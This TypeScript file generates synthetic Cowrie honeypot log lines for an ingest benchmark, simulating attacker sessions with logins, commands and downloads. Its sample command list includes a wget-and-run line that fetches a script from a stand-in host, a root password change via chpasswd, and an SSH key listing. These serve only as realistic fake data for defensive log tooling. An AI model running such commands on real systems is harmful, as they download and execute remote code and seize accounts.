// Seeded generator of realistic Cowrie JSON lines for the ingest benchmark: heavy-tailed attackers (a few
// addresses send most events), sessions of connect → logins → commands → downloads, several sensors.

import { mulberry32 } from '../api-server/demo/generate.ts';

const USERS = ['root', 'admin', 'user', 'test', 'ubuntu', 'oracle', 'pi', 'postgres', 'git', 'ftpuser'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh', 'echo "root:xyz"|chpasswd', 'free -m', 'ls -la ~/.ssh'];

/**
 * Yields `count` Cowrie lines over the `hours` before `end`, in time order as Cowrie writes them (sessions
 * start one after another; a session's lines follow within seconds).
 */
export function* cowrieLines(count: number, seed: number, end = Date.now(), hours = 72): Generator<string> {
  const rand = mulberry32(seed);
  const pool = 200_000;
  const ips: string[] = [];
  for (let i = 0; i < pool; i++) {
    // public-looking unicast space, avoiding 0/8, 10/8, 127/8 and multicast
    const a = 1 + Math.floor(rand() * 222);
    ips.push(`${a === 10 || a === 127 ? a + 1 : a}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${1 + Math.floor(rand() * 254)}`);
  }
  const span = hours * 3_600_000;
  // about 3.5 events a session: spread the session starts evenly over the span
  const gap = span / (count / 3.5);
  let start = end - span;
  let produced = 0;
  let session = 0;
  while (produced < count) {
    // Pareto-like rank: most sessions come from a few addresses.
    const ip = ips[Math.min(pool - 1, Math.floor(pool * rand() ** 4))] as string;
    const sensor = `hp-${Math.floor(rand() * 8)}`;
    const sid = (session++).toString(16).padStart(12, '0');
    start += Math.floor(rand() * 2 * gap);
    let ts = Math.min(start, end - 60_000);
    const at = () => new Date((ts += 200 + Math.floor(rand() * 3000))).toISOString().replace('Z', '123Z');
    const port = rand() < 0.8 ? 22 : 23;
    const lines = [`{"eventid":"cowrie.session.connect","timestamp":"${at()}","src_ip":"${ip}","src_port":${1024 + Math.floor(rand() * 60000)},"dst_ip":"10.0.0.5","dst_port":${port},"session":"${sid}","protocol":"${port === 22 ? 'ssh' : 'telnet'}","message":"New connection","sensor":"${sensor}"}`];
    const logins = 1 + Math.floor(rand() * 6);
    for (let i = 0; i < logins; i++) {
      lines.push(`{"eventid":"cowrie.login.failed","timestamp":"${at()}","src_ip":"${ip}","session":"${sid}","username":"${USERS[Math.floor(rand() * USERS.length)]}","password":"p${Math.floor(rand() * 1e6)}","message":"login attempt failed","sensor":"${sensor}"}`);
    }
    if (rand() < 0.3) {
      const n = 1 + Math.floor(rand() * 4);
      for (let i = 0; i < n; i++) {
        lines.push(`{"eventid":"cowrie.command.input","timestamp":"${at()}","src_ip":"${ip}","session":"${sid}","input":${JSON.stringify(COMMANDS[Math.floor(rand() * COMMANDS.length)])},"message":"CMD","sensor":"${sensor}"}`);
      }
      if (rand() < 0.3) {
        lines.push(`{"eventid":"cowrie.session.file_download","timestamp":"${at()}","src_ip":"${ip}","session":"${sid}","url":"http://198.51.100.9/bins/${Math.floor(rand() * 50)}","shasum":"00","sensor":"${sensor}"}`);
      }
    }
    for (const line of lines) {
      if (produced++ >= count) return;
      yield line;
    }
  }
}
